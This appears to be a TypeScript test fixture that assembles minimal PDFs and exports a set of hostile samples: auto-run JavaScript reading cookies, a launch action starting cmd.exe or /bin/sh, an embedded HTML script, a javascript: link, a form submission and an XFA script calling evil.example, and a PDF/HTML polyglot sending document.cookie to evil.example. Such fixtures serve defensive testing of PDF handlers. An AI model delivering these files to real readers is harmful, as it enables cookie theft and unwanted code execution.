/** The objects of a PDF after its catalog, and what the catalog says beside its pages. */
type Parts = { catalog: string; objects?: readonly string[]; page?: string };

/** Catalog, pages and one page, then the objects of the attack from number 4 on; the table of references as readers want it. */
function pdf({ catalog, objects = [], page = '' }: Parts): string {
  const all = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] ${page} >>`,
    ...objects,
  ];
  let text = '%PDF-1.7\n';
  const offsets = all.map((object, index) => {
    const offset = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return offset;
  });
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const size = all.length + 1;
  return `${text}xref\n0 ${size}\n0000000000 65535 f \n${table}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF\n`;
}

const stream = (content: string) => `<< /Length ${content.length} >>\nstream\n${content}\nendstream`;

/** PDFs that do something to their reader, by what they do. */
export const maliciousPdfs: Readonly<Record<string, string>> = {
  'runs a script': pdf({
    catalog: '/OpenAction 4 0 R',
    objects: ['<< /S /JavaScript /JS (app.alert\\(document.cookie\\)) >>'],
  }),
  'starts a program': pdf({
    catalog: '/OpenAction 4 0 R',
    objects: ['<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> /F (/bin/sh) >>'],
  }),
  'carries a file': pdf({
    catalog: '/Names << /EmbeddedFiles << /Names [(x.html) 4 0 R] >> >>',
    objects: ['<< /Type /Filespec /F (x.html) /EF << /F 5 0 R >> >>', stream('<script>alert(1)</script>')],
  }),
  'leads to a script': pdf({
    catalog: '',
    page: '/Annots [4 0 R]',
    objects: [
      '<< /Type /Annot /Subtype /Link /Rect [0 0 300 300] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>',
    ],
  }),
  'sends a form': pdf({
    catalog: '/AcroForm << /Fields [4 0 R] >> /OpenAction 5 0 R',
    objects: [
      '<< /FT /Tx /T (name) /V (Ada) >>',
      '<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>',
    ],
  }),
  'holds an XFA form': pdf({
    catalog: '/AcroForm << /XFA 4 0 R /Fields [] >>',
    objects: [
      stream(
        '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>xfa.host.gotoURL("//evil.example")</script></xdp:xdp>',
      ),
    ],
  }),
  'is a page as well': `%PDF-1.4\n<script>fetch('https://evil.example/' + document.cookie)</script>\n${pdf({ catalog: '' })}`,
};
